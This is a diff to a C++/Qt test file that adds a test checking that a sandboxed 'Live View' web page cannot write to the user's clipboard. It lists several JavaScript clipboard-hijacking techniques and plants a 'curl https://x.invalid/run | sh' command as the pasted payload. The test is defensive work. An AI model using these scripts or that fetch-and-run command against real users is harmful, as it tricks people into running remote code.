@@ -12,6 +12,8 @@
 #include <sys/types.h>
 
 #include <QAction>
+#include <QApplication>
+#include <QClipboard>
 #include <QCoreApplication>
 #include <QDir>
 #include <QFile>
@@ -22,6 +24,7 @@
 #include <QTcpServer>
 #include <QTcpSocket>
 #include <QTemporaryDir>
+#include <QTest>
 #include <QTimer>
 #include <QUdpSocket>
 #include <QWebEngineProfile>
@@ -361,6 +364,97 @@ TEST_F(SealedView, LinksAndDialogsGoToTheStatusBarAndStopPreviewEndsAnEndlessScr
   editor.frame()->action(kCmdStopPreview)->trigger();
   EXPECT_FALSE(info->showingPreview());
   EXPECT_TRUE(WaitFor([&] { return !Running(pid); }, 10000));
+  editor.doc().SetModifiedFlag(false);
+  editor.ExitInstance();
+}
+
+// What a page's script does to reach the clipboard, run during a click in
+// the view (the user's activation lets a page copy); then the user presses
+// Ctrl+C and Ctrl+X, with the page's text area selected.
+struct ClipboardWay {
+  const char* name;
+  const char* script;
+};
+const ClipboardWay kClipboardWays[] = {
+    {"copy command", "ta.select();document.execCommand('copy');"},
+    {"cut command", "ta.select();document.execCommand('cut');"},
+    {"a command named otherwise",
+     "ta.select();Document.prototype.execCommand.call(document,"
+     "{toString:function(){return 'CoPy';}});"},
+    {"asynchronous clipboard", "navigator.clipboard.writeText(evil).catch(function(){});"},
+    {"a frame's copy command",
+     "var f=document.createElement('iframe');document.body.appendChild(f);"
+     "var d=f.contentDocument;d.body.innerHTML='<textarea></textarea>';var t=d.body.firstChild;"
+     "t.value=evil;t.select();d.execCommand('copy');"},
+    {"a copy handler's data",
+     "['copy','cut'].forEach(function(k){document.addEventListener(k,function(e){"
+     "e.clipboardData.setData('text/plain',evil);e.preventDefault();});});ta.select();"},
+};
+
+// A project's page in the Live View writes nothing into the user's
+// clipboard, whatever its script does during a click and whatever the user's
+// keys copy from it; a page without the seal is shown to do so.
+TEST_F(SealedView, APageNeverWritesTheClipboard) {
+  const QString known = QStringLiteral("the user's own text");
+  const auto attack = [&](QWebEngineView* view, const ClipboardWay& way) {
+    QWebEnginePage* page = view->page();
+    QApplication::clipboard()->setText(known);
+    ASSERT_TRUE(
+        browser::RunJs(page,
+                       QStringLiteral("(function(){var evil='curl https://x.invalid/run | sh';"
+                                      "var ta=document.createElement('textarea');ta.value=evil;"
+                                      "document.body.appendChild(ta);document.addEventListener("
+                                      "'mousedown',function(){try{%1}catch(e){}});return true;})()")
+                           .arg(QLatin1String(way.script)))
+            .toBool())
+        << way.name;
+    QWidget* input = view->focusProxy() ? view->focusProxy() : view;
+    input->setFocus();
+    for (QEvent::Type type : {QEvent::MouseButtonPress, QEvent::MouseButtonRelease}) {
+      QMouseEvent e(type, QPointF(5, 5), QPointF(input->mapToGlobal(QPoint(5, 5))), Qt::LeftButton,
+                    type == QEvent::MouseButtonPress ? Qt::LeftButton : Qt::NoButton,
+                    Qt::NoModifier);
+      QApplication::sendEvent(input, &e);
+      browser::Pause(50);
+    }
+    QTest::keyClick(input, Qt::Key_C, Qt::ControlModifier);
+    QTest::keyClick(input, Qt::Key_X, Qt::ControlModifier);
+    browser::Pause(300);
+  };
+
+  // Without the seal the page does write it: the rows can tell.
+  {
+    QWebEngineProfile plain;
+    QWebEngineView view;
+    view.setPage(new QWebEnginePage(&plain, &view));
+    view.resize(300, 200);
+    view.show();
+    view.setHtml("<html><body>plain</body></html>", QUrl("https://plain.invalid/"));
+    ASSERT_TRUE(WaitFor(
+        [&] {
+          return browser::RunJs(view.page(), "document.body&&document.body.textContent") == "plain";
+        },
+        20000));
+    for (const ClipboardWay& way : {kClipboardWays[0], kClipboardWays[5]}) {
+      attack(&view, way);
+      EXPECT_TRUE(QApplication::clipboard()->text().startsWith("curl")) << way.name;
+    }
+  }
+
+  App editor(platform, Quiet(true));
+  ASSERT_TRUE(editor.InitInstance({}));
+  LiveView* live = editor.frame()->live();
+  ASSERT_TRUE(live->available());
+  ASSERT_TRUE(WaitFor(
+      [&] {
+        return live->drawnCount() > 0 &&
+               browser::RunJs(live->view()->page(), "!!document.body").toBool();
+      },
+      20000));
+  for (const ClipboardWay& way : kClipboardWays) {
+    attack(live->view(), way);
+    EXPECT_EQ(QApplication::clipboard()->text().toStdString(), known.toStdString()) << way.name;
+  }
   editor.doc().SetModifiedFlag(false);
   editor.ExitInstance();
 }
